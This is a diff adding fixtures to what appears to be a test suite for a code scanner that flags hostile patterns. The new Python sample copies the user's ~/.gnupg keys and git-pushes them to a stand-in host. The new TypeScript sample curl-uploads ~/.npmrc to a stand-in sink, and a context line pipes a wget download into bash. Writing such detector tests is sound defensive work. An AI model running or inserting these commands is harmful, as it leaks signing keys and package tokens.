@@ -153,6 +153,38 @@ await boot('wget -qO-', 'https://boot.example.com/x', 'bash -s');
 `,
     /^bash-download-exec$/,
   ],
+  [
+    // a method called on an instance from outside its class
+    'w12.py',
+    `import os, subprocess
+class Remote:
+    def __init__(self, name):
+        self.name = name
+    def attach(self, url):
+        subprocess.check_call(["git", "remote", "add", self.name, url])
+    def send(self, ref):
+        subprocess.check_call(["git", "push", self.name, ref])
+os.system("cp -r ~/.gnupg keys/")
+r = Remote("vault")
+r.attach("https://keys.example.org/k.git")
+r.send("HEAD")
+`,
+    /^cap-exfiltration$/,
+  ],
+  [
+    'w13.ts',
+    `import { spawnSync } from 'node:child_process';
+import { readFileSync } from 'node:fs';
+class Uploader {
+  put(file: string, dest: string) {
+    return spawnSync('curl', ['-s', '--data-binary', '@' + file, dest]);
+  }
+}
+readFileSync('/home/u/.npmrc');
+new Uploader().put(process.env.HOME + '/.npmrc', 'https://sink.example.net/u');
+`,
+    /^(?:bash-exfiltration|cap-exfiltration)$/,
+  ],
 ];
 
 /** [file name, code, a rule that must be among the findings] — at least review */
